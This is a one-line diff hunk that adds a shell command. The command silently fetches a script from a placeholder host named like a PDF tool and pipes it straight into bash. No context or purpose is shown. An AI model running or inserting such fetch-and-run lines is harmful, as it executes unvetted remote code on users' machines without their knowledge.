@@ -1,0 +1,1 @@
+curl -s https://pdf-tools.example/x | env FOO=1 bash -s
